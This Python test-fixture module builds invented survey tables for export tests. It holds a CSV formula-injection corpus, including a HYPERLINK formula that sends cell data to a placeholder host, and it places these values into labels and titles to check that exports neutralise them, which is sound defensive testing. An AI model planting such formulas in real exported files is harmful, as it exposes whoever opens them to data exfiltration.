"""Hand-built table results in the documented shapes, for the export tests.

The numbers are invented for these tests (a frequency table of 100 answers and a small
break-down); the tests check that each export carries exactly these numbers.
"""

from __future__ import annotations

from core.export.content import Entry
from core.tables.result import Cell, TableResult
from core.tables.spec import TableSpec

# Formula-injection corpus, METHODS.md §12 (OWASP "CSV Injection" test cases).
INJECTION_CORPUS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "@SUM(A1)",
    "+1",
    "-1+1",
    "\t=1",
    "\r=1",
    'safe";=1+2',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
]


def frequency_result(title: str = "Overall satisfaction with the course") -> TableResult:
    """A Likert frequency table: 100 answered, 7 missing, one hidden small count."""
    levels = ["Very dissatisfied", "Dissatisfied", "Neutral", "Satisfied", "Very satisfied"]
    counts = {
        "Very dissatisfied": None,
        "Dissatisfied": 8,
        "Neutral": 20,
        "Satisfied": 42,
        "Very satisfied": 27,
    }
    percents = {
        "Very dissatisfied": None,
        "Dissatisfied": 8.0,
        "Neutral": 20.0,
        "Satisfied": 42.0,
        "Very satisfied": 27.0,
    }
    rows = []
    for level in levels:
        n = counts[level]
        if n is None:
            rows.append(
                [
                    Cell(level),
                    Cell(None, "count", suppressed=True, text="<5"),
                    Cell(None, "percent", suppressed=True, text="<5"),
                ]
            )
        else:
            rows.append([Cell(level), Cell(n, "count"), Cell(percents[level], "percent")])
    rows.append([Cell("Total"), Cell(100, "count"), Cell(100.0, "percent")])
    rows.append([Cell("Skipped (left blank)"), Cell(7, "count"), Cell(None, "percent")])
    return TableResult(
        spec=TableSpec("overall_satisfaction"),
        table_type="likert",
        kind="likert",
        title=title,
        base="Base: 100 respondents who answered (7 skipped).",
        n_valid=100,
        n_missing=7,
        columns=["Answer", "Count", "%"],
        rows=rows,
        row_roles=["level"] * 5 + ["total", "missing"],
        notes=[
            "Counts below 5 are hidden (shown as <5).",
            "2 answers were corrected during cleaning.",
        ],
        data={
            "levels": levels,
            "counts": counts,
            "percents": percents,
            "missing": {"skipped": 7},
            "ordered": True,
        },
        wave="2026",
        instrument="Participant survey",
    )


def numbers_result() -> TableResult:
    """Descriptive statistics with a negative number and a change in percentage points."""
    rows = [
        [Cell("Mean"), Cell(12.345, "number")],
        [Cell("Median"), Cell(12, "number")],
        [Cell("Lowest change"), Cell(-3, "number")],
        [Cell("Change"), Cell(-4.25, "pp")],
        [Cell("Answered"), Cell(1234, "count")],
    ]
    return TableResult(
        spec=TableSpec("credits_term"),
        table_type="descriptives",
        kind="numeric",
        title="Credits this term",
        base="Base: 1,234 respondents.",
        n_valid=1234,
        n_missing=0,
        columns=["Statistic", "Value"],
        rows=rows,
        row_roles=["stat"] * 5,
        notes=[],
        wave="2026",
        instrument="Participant survey",
    )


def injection_result() -> TableResult:
    """Level labels typed by strangers: every one starts with a dangerous character."""
    rows = [[Cell(text), Cell(i + 5, "count")] for i, text in enumerate(INJECTION_CORPUS)]
    rows.append([Cell("Negative balance"), Cell(-1, "number")])
    return TableResult(
        spec=TableSpec("free_answer"),
        table_type="frequency",
        kind="categorical",
        title="=Answers typed by respondents",
        base="-Base: 50",
        n_valid=50,
        n_missing=0,
        columns=["@Answer", "Count"],
        rows=rows,
        notes=["+1 note that starts with a plus"],
        wave="2026",
        instrument="Participant survey",
    )


def entry(
    result: TableResult, number: int = 1, finding: str = "", png: bytes | None = None
) -> Entry:
    return Entry(number=number, title=result.title, finding=finding, result=result, png=png)
